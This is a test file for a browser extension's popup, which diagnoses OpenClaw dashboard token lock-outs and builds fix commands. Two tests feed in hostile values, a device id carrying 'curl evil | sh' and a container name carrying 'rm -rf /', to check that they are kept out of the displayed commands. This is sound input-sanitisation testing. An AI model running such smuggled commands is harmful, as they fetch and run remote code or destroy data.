import { render } from 'preact';
import { act } from 'preact/test-utils';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { KnownTab } from '@/lib/messages';
import type { PopupConnector } from '@/lib/popup-connector';
import { Popup } from './Popup';
import { StorageWriteError } from '@/lib/extension-storage';

/** A device id as releases write it: sha256 hex of the public key. */
const DEVICE_ID = 'abcdef0123456789'.repeat(4);

const TAB: KnownTab = {
  url: 'http://127.0.0.1:18789/',
  page: { brand: 'openclaw', release: '2026.9.6', basePath: '' },
  gatewayUrl: 'ws://127.0.0.1:18789',
  lockouts: [{ kind: 'device-token-mismatch' }],
  stored: {
    deviceToken: { key: 'openclaw.device.auth.v1:ws://127.0.0.1:18789', length: 43, updatedAtMs: 1 },
    deviceAuthKeys: ['openclaw.device.auth.v1:ws://127.0.0.1:18789'],
    identity: { present: true, deviceId: DEVICE_ID },
    sharedToken: 'tab-session',
  },
  undoable: null,
};

function fakeConnector(tab: KnownTab | null, overrides: Partial<PopupConnector> = {}): PopupConnector {
  return {
    firstLook: async () => ({ tabId: 7, tab }),
    probeTab: vi.fn(async () => ({ status: 'no-access' as const })),
    watchTab: () => () => {},
    clear: vi.fn(async () => ({ status: 'cleared' as const, keys: ['openclaw.device.auth.v1:ws://127.0.0.1:18789'] })),
    undo: vi.fn(async () => ({ status: 'needs-confirmation' as const, keys: ['k'] })),
    openPrivateWindow: vi.fn(async () => ({ status: 'not-allowed' as const, url: 'http://127.0.0.1:18789/' })),
    getSettings: async () => ({ autoFix: true, showBanner: true }),
    setSettings: vi.fn(async (patch) => ({ autoFix: true, showBanner: true, ...patch })),
    copy: vi.fn(async () => true),
    getRunMode: vi.fn(async () => null),
    setRunMode: vi.fn(async () => undefined),
    requestHostPermission: vi.fn(async () => true),
    addSite: vi.fn(async (address: string) => ({
      ok: true as const,
      site: { address, origin: new URL(address).origin, pattern: `${new URL(address).protocol}//${new URL(address).hostname}/*` },
    })),
    reload: vi.fn(async () => {}),
    openOptions: vi.fn(async () => {}),
    ...overrides,
  };
}

const container = document.createElement('div');
document.body.append(container);
const settle = () => act(async () => new Promise((resolve) => setTimeout(resolve, 0)));
async function show(connector: PopupConnector) {
  act(() => render(<Popup connector={connector} />, container));
  await settle();
}
const button = (name: string) => [...container.querySelectorAll('button')].find((b) => b.textContent === name)!;
const click = async (name: string) => {
  act(() => button(name).click());
  await settle();
};

afterEach(() => act(() => render(null, container)));

describe('Popup', () => {
  it('diagnoses the tab without showing the token, with the device id in the commands', async () => {
    await show(fakeConnector(TAB));
    const text = container.textContent!;
    expect(text).toContain('ws://127.0.0.1:18789');
    expect(text).toContain('2026.9.6');
    expect(container.querySelector('dd.error')?.textContent).toBe('Device token mismatch');
    expect(text).toContain('stored •••••••• (43 characters)');
    expect(text).toContain(`openclaw devices rotate --device ${DEVICE_ID} --role operator`);
    expect(text).toContain('openclaw gateway auth-token --show');
    expect(text).not.toContain('openclaw config get gateway.auth.token');
  });

  it('leads with the answer: the lock-out and the one next step, before the facts, with the long guide folded', async () => {
    await show(fakeConnector(TAB));
    const answer = container.querySelector('section.answer')!;
    expect(answer.querySelector('h2')?.textContent).toBe('Device token mismatch');
    expect(answer.querySelector('.next')?.textContent).toMatch(/^Next: Clear the stale device token/);
    // The answer comes before the facts, and the guide is folded until asked for.
    expect(answer.compareDocumentPosition(container.querySelector('dl.facts')!) & Node.DOCUMENT_POSITION_FOLLOWING).toBeTruthy();
    const fold = container.querySelector('details.fold') as HTMLDetailsElement;
    expect(fold.open).toBe(false);
    expect(fold.querySelector('summary')?.textContent).toBe('How to fix it');
    expect(fold.textContent).toContain('openclaw devices rotate');
  });

  it('after the extension cleared the stale token, says so once, then the next step, and the facts say who removed it', async () => {
    const cleared: KnownTab = {
      ...TAB,
      page: { ...TAB.page, release: '2026.4.24' },
      lockouts: [{ kind: 'gateway-token-missing' }],
      stored: { ...TAB.stored, deviceToken: null, sharedToken: null },
      undoable: { keys: ['openclaw.device.auth.v1:ws://127.0.0.1:18789'], createdAt: 1 },
    };
    await show(fakeConnector(cleared));
    const answer = container.querySelector('section.answer')!;
    expect(answer.querySelector('h2')?.textContent).toBe('Stale device token cleared');
    expect(answer.textContent).toContain('kept a backup');
    expect(answer.querySelector('.next')?.textContent).toMatch(/^Next: /);
    expect(answer.textContent).not.toContain('Gateway token missing');
    expect(container.textContent!.match(/kept a backup/g)).toHaveLength(1);
    expect(container.querySelector('dl.facts')?.textContent).toContain('removed by the extension (backup kept)');
    expect(button('Undo').disabled).toBe(false);
  });

  it('says when the tab shows no lock-out, with no next step', async () => {
    await show(fakeConnector({ ...TAB, lockouts: [] }));
    expect(container.querySelector('section.answer h2')?.textContent).toBe('No lock-out on this tab');
    expect(container.querySelector('.next')).toBeNull();
    expect(container.querySelector('details.fold')).toBeNull();
  });

  it('names both readings of an uncertain error in the facts', async () => {
    await show(fakeConnector({ ...TAB, lockouts: [{ kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch', uncertain: true, otherReading: 'gateway-token-mismatch' }] }));
    expect(container.querySelector('dd.error')?.textContent).toBe('Device token mismatch or gateway token mismatch (not sure which)');
    expect(container.textContent).toContain('so both are possible, and nothing was cleared automatically');
  });

  it('clears and reports what it cleared', async () => {
    const connector = fakeConnector(TAB);
    await show(connector);
    await click('Clear stale device token');
    expect(connector.clear).toHaveBeenCalledWith(7);
    expect(container.querySelector('[role="status"]')?.textContent).toContain('Cleared openclaw.device.auth.v1:ws://127.0.0.1:18789');
  });

  it('asks before Undo overwrites a newer token', async () => {
    const connector = fakeConnector({ ...TAB, undoable: { keys: ['k'], createdAt: 1 } });
    await show(connector);
    await click('Undo');
    expect(container.textContent).toContain('newer device token');
    await click('Replace with backup');
    expect(connector.undo).toHaveBeenLastCalledWith(7, true);
  });

  it('disables the clear when there is nothing to clear', async () => {
    await show(fakeConnector({ ...TAB, lockouts: [{ kind: 'gateway-token-mismatch' }] }));
    expect(button('Clear stale device token').disabled).toBe(true);
    expect(button('Undo').disabled).toBe(true);
  });

  it('explains a refused private window with a copy button and the shortcut', async () => {
    const connector = fakeConnector(TAB);
    await show(connector);
    await click('Reopen in private window');
    expect(container.textContent).toContain('Run in Private Windows');
    expect(container.textContent).toMatch(/Ctrl\+Shift\+N/);
    await click('Copy link');
    expect(connector.copy).toHaveBeenCalledWith('http://127.0.0.1:18789/');
  });

  it('diagnoses pasted text on any page', async () => {
    await show(fakeConnector(null));
    expect(container.textContent).toContain('not an OpenClaw dashboard');
    const box = container.querySelector('textarea')!;
    act(() => {
      box.value = 'unauthorized: gateway token mismatch (provide gateway auth token)';
      box.dispatchEvent(new Event('input', { bubbles: true }));
    });
    expect(container.querySelector('.pasted h3')?.textContent).toBe('Gateway token mismatch');
  });

  const paste = (text: string) =>
    act(() => {
      const box = container.querySelector('textarea')!;
      box.value = text;
      box.dispatchEvent(new Event('input', { bubbles: true }));
    });

  it('says where pasted words came from, and gives the CLI its own steps', async () => {
    await show(fakeConnector(null));
    paste('gateway connect failed: unauthorized: device token mismatch (rotate/reissue device token)');
    const pasted = container.querySelector('.pasted')!;
    expect(pasted.querySelector('.source')?.textContent).toBe('Read as text from the openclaw CLI in a terminal.');
    expect(pasted.textContent!.match(/storage is not involved/g)).toHaveLength(1);
    expect(pasted.querySelector('h3')?.textContent).toBe('Device token mismatch');
    expect(pasted.textContent).toContain('openclaw devices list --token <token>');
    expect(pasted.textContent).not.toContain('Clear stale device token');
    expect(pasted.textContent).toContain('~/.openclaw/');
  });

  it('names each client when the text mixes the dashboard’s and the CLI’s errors', async () => {
    await show(fakeConnector(null));
    paste('disconnected (1008): unauthorized: device token mismatch (rotate/reissue device token)\ngateway closed (1008): unauthorized: gateway token mismatch (set gateway.remote.token to match gateway.auth.token)');
    expect(container.querySelector('.pasted .source')?.textContent).toBe(
      'Read as text from several places (the openclaw CLI in a terminal, the dashboard in a browser). Refused: Gateway token mismatch (the openclaw CLI); Device token mismatch (the dashboard).',
    );
    expect([...container.querySelectorAll('.pasted h3')].map((h) => h.textContent)).toEqual(['1. Gateway token mismatch', '2. Device token mismatch']);
  });

  it('shows the commands in the container form the pasted text names', async () => {
    await show(fakeConnector(null));
    paste('$ docker compose exec openclaw-gateway openclaw devices list\ngateway connect failed: unauthorized: gateway token missing (provide gateway auth token)');
    expect(container.querySelector('.pasted')!.textContent).toContain('The text shows a Docker Compose service (openclaw-gateway, the official one)');
    expect(container.querySelector('.pasted')!.textContent).toContain('docker compose exec openclaw-gateway openclaw devices list --token <token>');
  });

  it('reads the dashboard’s translated words', async () => {
    await show(fakeConnector(null));
    paste('Gateway-Geheimnis abgelehnt');
    expect(container.querySelector('.pasted h3')?.textContent).toBe('Gateway token mismatch');
    expect(container.querySelector('.pasted .source')?.textContent).toBe('Read as text from the dashboard in a browser.');
  });

  it('reads pasted words in the light of this dashboard, and explains both readings when unsure', async () => {
    const tab: KnownTab = { ...TAB, page: { ...TAB.page, release: null }, stored: { ...TAB.stored, sharedToken: null }, lockouts: [] };
    await show(fakeConnector(tab));
    paste('gateway token mismatch');
    const pasted = container.querySelector('.pasted')!;
    expect(pasted.querySelector('h3')?.textContent).toBe('Device token mismatch');
    expect(pasted.textContent).toContain('so both are possible, and nothing was cleared automatically');
    // With the Control UI's own hint, it is the 2.22–3.8 answer to a stale device token.
    paste('unauthorized: gateway token mismatch (open the dashboard URL and paste the token in Control UI settings)');
    expect(container.querySelector('.pasted')!.textContent).toContain('releases up to 2026.2.12 and 2026.2.22 to 2026.3.8 answer a stale device token that way');
  });

  it('a gateway URL with credentials is shown redacted', async () => {
    await show(fakeConnector({ ...TAB, gatewayUrl: 'ws://alice:hunter2@127.0.0.1:18789/?token=s3cret' }));
    const text = container.textContent!;
    expect(text).toContain('ws://***@127.0.0.1:18789/?token=***');
    expect(text).not.toContain('hunter2');
    expect(text).not.toContain('alice');
    expect(text).not.toContain('s3cret');
  });

  it('a hostile device id from the page never reaches a command or the facts', async () => {
    await show(fakeConnector({ ...TAB, stored: { ...TAB.stored, identity: { present: true, deviceId: 'x; curl evil | sh #' } } }));
    const text = container.textContent!;
    expect(text).not.toContain('curl');
    expect(text).toContain('openclaw devices rotate --device <deviceId> --role operator');
    expect(text).toContain('its device id is not one OpenClaw writes');
  });

  it('the origin command gets the tab’s origin, and a placeholder for an address without one', async () => {
    await show(fakeConnector({ ...TAB, url: 'https://gw.example/openclaw/', lockouts: [{ kind: 'origin-not-allowed' }] }));
    expect(container.textContent).toContain(`openclaw config set gateway.controlUi.allowedOrigins '["https://gw.example"]'`);
    act(() => render(null, container));
    await show(fakeConnector({ ...TAB, url: 'not a url', lockouts: [{ kind: 'origin-not-allowed' }] }));
    expect(container.textContent).toContain(`openclaw config set gateway.controlUi.allowedOrigins '["<origin>"]'`);
  });

  it('page strings shown in the facts are bounded', async () => {
    await show(fakeConnector({ ...TAB, page: { ...TAB.page, release: `2026.9.6-${'x'.repeat(1024 * 1024)}` }, gatewayUrl: `ws://127.0.0.1:18789/${'y'.repeat(1024 * 1024)}` }));
    expect(container.textContent!.length).toBeLessThan(20_000);
  });

  it('saves the automatic-fix setting', async () => {
    const connector = fakeConnector(TAB);
    await show(connector);
    const box = container.querySelector<HTMLInputElement>('input[type="checkbox"]')!;
    expect(box.checked).toBe(true);
    act(() => box.click());
    await settle();
    expect(connector.setSettings).toHaveBeenCalledWith({ autoFix: false });
  });

  it('storage full: a setting that was not saved says so, and its checkbox goes back', async () => {
    const full = "The browser's storage for the extension is full, so the setting was not saved and nothing was changed.";
    const connector = fakeConnector(TAB, { setSettings: vi.fn(async () => Promise.reject(new StorageWriteError(true, full))) });
    await show(connector);
    const box = container.querySelector<HTMLInputElement>('input[type="checkbox"]')!;
    act(() => box.click());
    await settle();
    expect(container.querySelector('[role="alert"]')!.textContent).toBe(full);
    expect(box.checked).toBe(true);
  });

  it('saves the show-banner setting and opens the options page', async () => {
    const connector = fakeConnector(TAB);
    await show(connector);
    const box = [...container.querySelectorAll('label')].find((label) => label.textContent!.startsWith('Show the banner'))!.querySelector('input')!;
    expect(box.checked).toBe(true);
    act(() => box.click());
    await settle();
    expect(connector.setSettings).toHaveBeenCalledWith({ showBanner: false });
    expect(box.checked).toBe(false);
    await click('Dashboard addresses and settings…');
    expect(connector.openOptions).toHaveBeenCalled();
  });
});

describe('Popup on a tab the extension does not run on', () => {
  const LAN_TAB: KnownTab = { ...TAB, url: 'http://192.168.1.20:18789/chat?session=main', gatewayUrl: 'ws://192.168.1.20:18789', probed: true };
  const probing = (tab: KnownTab, overrides: Partial<PopupConnector> = {}) =>
    fakeConnector(null, { probeTab: vi.fn(async () => ({ status: 'dashboard' as const, tab })), ...overrides });

  it('diagnoses a probed dashboard like a loopback one, without clear or Undo', async () => {
    const connector = probing(LAN_TAB);
    await show(connector);
    expect(connector.probeTab).toHaveBeenCalledWith(7);
    expect(container.querySelector('dd.error')?.textContent).toBe('Device token mismatch');
    expect(container.textContent).toContain(`openclaw devices rotate --device ${DEVICE_ID} --role operator`);
    expect(container.textContent).toContain("The extension doesn't run on this address yet");
    expect(button('Clear stale device token')).toBeUndefined();
    expect(button('Undo')).toBeUndefined();
    expect(button('Always run on http://192.168.1.20:18789')).toBeDefined();
  });

  it('“Always run on” asks for the host from the click, adds the tab’s address, then offers a reload', async () => {
    const connector = probing(LAN_TAB);
    await show(connector);
    act(() => button('Always run on http://192.168.1.20:18789').click());
    // Synchronously inside the click: the browser only prompts inside the user's gesture.
    expect(connector.requestHostPermission).toHaveBeenCalledWith('http://192.168.1.20/*');
    expect(connector.addSite).not.toHaveBeenCalled();
    await settle();
    expect(connector.addSite).toHaveBeenCalledWith('http://192.168.1.20:18789/chat?session=main');
    expect(container.querySelector('[role="status"]')?.textContent).toBe('Added. Reload the dashboard to start.');
    await click('Reload the tab');
    expect(connector.reload).toHaveBeenCalledWith(7);
  });

  it('a refused permission adds nothing and says so', async () => {
    const connector = probing(LAN_TAB, { requestHostPermission: vi.fn(async () => false) });
    await show(connector);
    await click('Always run on http://192.168.1.20:18789');
    expect(connector.addSite).not.toHaveBeenCalled();
    expect(container.querySelector('[role="status"]')?.textContent).toBe('The browser did not allow access to 192.168.1.20:18789, so nothing was added.');
    expect(button('Reload the tab')).toBeUndefined();
  });

  it('a probed loopback dashboard offers a reload, not a site', async () => {
    const connector = probing({ ...TAB, probed: true });
    await show(connector);
    expect(container.textContent).toContain('has not heard from this page yet');
    expect([...container.querySelectorAll('button')].some((b) => b.textContent!.startsWith('Always run on'))).toBe(false);
    await click('Reload the tab');
    expect(connector.reload).toHaveBeenCalledWith(7);
  });

  it('a report from the tab replaces the probed state; other tabs’ reports do not clear it', async () => {
    let report: (tab: KnownTab | null) => void = () => {};
    const connector = probing(LAN_TAB, { watchTab: (_id, callback) => ((report = callback), () => {}) });
    await show(connector);
    act(() => report(null));
    expect(button('Always run on http://192.168.1.20:18789')).toBeDefined();
    act(() => report({ ...LAN_TAB, probed: undefined }));
    expect(button('Clear stale device token')).toBeDefined();
  });

  it('says when the page is not a dashboard, and keeps the paste box', async () => {
    await show(fakeConnector(null, { probeTab: async () => ({ status: 'not-dashboard' as const, url: 'https://example.com/' }) }));
    expect(container.textContent).toContain('This page is not an OpenClaw dashboard.');
    expect(container.querySelector('textarea')).not.toBeNull();
  });

  it('keeps the old wording when the tab cannot be read', async () => {
    await show(fakeConnector(null));
    expect(container.textContent).toContain('This tab is not an OpenClaw dashboard, or it has not finished loading.');
  });
});

describe('How do you run OpenClaw?', () => {
  it('shows every command in its Compose form once chosen, and remembers it for the gateway', async () => {
    const connector = fakeConnector(TAB);
    await show(connector);
    const compose = [...container.querySelectorAll<HTMLInputElement>('input[type=radio]')][1]!;
    act(() => compose.click());
    await settle();
    expect(connector.setRunMode).toHaveBeenCalledWith('ws://127.0.0.1:18789', { kind: 'compose', service: 'openclaw-gateway' });
    expect(container.textContent).toContain(`docker compose exec openclaw-gateway openclaw devices rotate --device ${DEVICE_ID} --role operator`);
  });

  it('starts from the remembered answer', async () => {
    await show(fakeConnector(TAB, { getRunMode: vi.fn(async () => ({ kind: 'container' as const, name: 'my-claw' })) }));
    expect(container.textContent).toContain('docker exec -it my-claw openclaw devices rotate');
  });

  it('a hostile container name never reaches a command', async () => {
    await show(fakeConnector(TAB, { getRunMode: vi.fn(async () => ({ kind: 'container' as const, name: 'x; rm -rf /' })) }));
    expect(container.textContent).not.toContain('rm -rf');
    expect(container.textContent).toContain('docker exec -it <container> openclaw');
  });
});

describe('whose storage', () => {
  it('names the origin that holds the token, and that 127.0.0.1 and localhost keep separate ones', async () => {
    await show(fakeConnector(TAB));
    expect(container.textContent).toContain('in http://127.0.0.1:18789 (http://localhost:18789 keeps its own)');
  });
});
